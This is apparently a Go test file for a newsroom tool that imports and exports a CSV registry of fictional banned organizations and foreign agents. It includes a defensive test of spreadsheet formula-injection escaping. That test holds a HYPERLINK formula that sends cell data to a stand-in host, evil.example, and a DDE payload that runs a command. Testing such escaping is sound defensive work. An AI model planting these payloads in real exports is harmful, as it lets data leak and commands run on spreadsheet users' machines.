package legal_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"newsdesk/internal/legal"
	"newsdesk/internal/newsroom"
)

const goodCSV = `name,list,listed_from,listed_until,marker,forms_en,forms_ru,note_en,note_ru
Grey Strait Brotherhood,Banned organizations,2019-03-14,2025-04-17,*,Grey Strait Brotherhood,Братств{о|а|у|ом|е} Серого пролива,the organization is banned in Valdora,организация запрещена в Вальдоре
Tidewatch,Foreign agents,01.01.2020,,**,Tidewatch,Тайдвотч,registered as a foreign agent,внесён в реестр иностранных агентов
"Grey Strait Brotherhood",Terrorist organizations,2020-06-01,,,,,,
`

func TestParseCSV(t *testing.T) {
	got, err := legal.ParseCSV(strings.NewReader(goodCSV))
	if err != nil {
		t.Fatal(err)
	}
	want := []newsroom.LegalEntity{
		{
			Name:   "Grey Strait Brotherhood",
			Forms:  map[string][]string{"en": {"Grey Strait Brotherhood"}, "ru": {"Братств{о|а|у|ом|е} Серого пролива"}},
			Marker: "*",
			Notes:  map[string]string{"en": "the organization is banned in Valdora", "ru": "организация запрещена в Вальдоре"},
			Listings: []newsroom.LegalListing{
				{List: "Banned organizations", From: day("2019-03-14"), Until: day("2025-04-17")},
				{List: "Terrorist organizations", From: day("2020-06-01")},
			},
		},
		{
			Name:     "Tidewatch",
			Forms:    map[string][]string{"en": {"Tidewatch"}, "ru": {"Тайдвотч"}},
			Marker:   "**",
			Notes:    map[string]string{"en": "registered as a foreign agent", "ru": "внесён в реестр иностранных агентов"},
			Listings: []newsroom.LegalListing{{List: "Foreign agents", From: day("2020-01-01")}},
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ParseCSV (-want +got):\n%s", diff)
	}

	// Export and parse again: the same registry.
	var buf bytes.Buffer
	if err := legal.WriteCSV(&buf, got); err != nil {
		t.Fatal(err)
	}
	again, err := legal.ParseCSV(&buf)
	if err != nil {
		t.Fatalf("parse exported CSV: %v\n%s", err, buf.String())
	}
	if diff := cmp.Diff(got, again, cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("round trip (-exported +reparsed):\n%s", diff)
	}
}

func TestParseCSVErrors(t *testing.T) {
	const head = "name,list,listed_from,listed_until,marker,forms_en,note_en\n"
	const ok = "Tidewatch,Foreign agents,2020-01-01,,**,Tidewatch,a foreign agent\n"
	tests := []struct {
		name, csv, field, msg string
	}{
		{"empty file", "", "line:1", "empty"},
		{"unknown column", "name,list,listed_from,colour\n", "line:1", `unknown column "colour"`},
		{"missing column", "name,list\n", "line:1", `"listed_from" column is missing`},
		{"bad date on line 3", head + ok + "Salt League,Liquidated,2020-13-01,,*,Salt League,liquidated\n", "line:3", "listed_from"},
		{"removal before listing", head + ok + "Salt League,Liquidated,2020-01-01,2019-01-01,*,Salt League,liquidated\n", "line:3", "listed_until"},
		{"no forms", head + ok + ok + "Salt League,Liquidated,2020-01-01,,*,,liquidated\n", "line:4", "forms"},
		{"no list", head + "Salt League,,2020-01-01,,*,Salt League,liquidated\n", "line:2", "list"},
		{"too few cells", head + ok + "Salt League,Liquidated\n", "line:3", "2 cells"},
		{"broken quotes", head + ok + "\"Salt League,Liquidated,2020-01-01,,*,Salt League,liquidated\n", "line:3", ""},
		{"a letter as marker", head + "Salt League,Liquidated,2020-01-01,,x,Salt League,liquidated\n", "line:2", "marker"},
		{"a quoted line break keeps line numbers", head + "\"Salt\nLeague\",Liquidated,2020-01-01,,*,Salt League,liquidated\n" + "X,Y,never,,*,X,x\n", "line:4", "listed_from"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := legal.ParseCSV(strings.NewReader(tt.csv))
			e := newsroom.AsError(err)
			if e == nil || e.Code != newsroom.Invalid || e.Field != tt.field || !strings.Contains(e.Message, tt.msg) {
				t.Fatalf("error = %v; want invalid on %s mentioning %q", err, tt.field, tt.msg)
			}
			if got != nil {
				t.Errorf("got %d entities with an error; want none", len(got))
			}
		})
	}
}

// TestWriteCSVEscapesFormulas: a cell that begins with = + - @, a tab or
// a carriage return is written with a leading apostrophe, so a
// spreadsheet shows it as text instead of running it; the export still
// imports to the same registry.
func TestWriteCSVEscapesFormulas(t *testing.T) {
	hostile := []newsroom.LegalEntity{{
		Name:     `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		Forms:    map[string][]string{"en": {"+Plus Front"}, "ru": {"-минус"}},
		Marker:   "@",
		Notes:    map[string]string{"en": "\tindented", "ru": "\rcarriage"},
		Listings: []newsroom.LegalListing{{List: "=cmd|' /C calc'!A0", From: day("2021-05-01")}},
	}}
	var buf bytes.Buffer
	if err := legal.WriteCSV(&buf, hostile); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for i, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("column %s = %q: a spreadsheet would run or strip it", recs[0][i], c)
			}
		}
	}
	if !strings.Contains(buf.String(), `'=HYPERLINK`) || !strings.Contains(buf.String(), "'@") {
		t.Errorf("export lacks the escaped cells:\n%s", buf.String())
	}
	again, err := legal.ParseCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if again[0].Name != hostile[0].Name || again[0].Marker != "@" || again[0].Listings[0].List != hostile[0].Listings[0].List ||
		again[0].Forms["en"][0] != "+Plus Front" || again[0].Forms["ru"][0] != "-минус" {
		t.Errorf("round trip: %+v, want the original values back", again[0])
	}
}
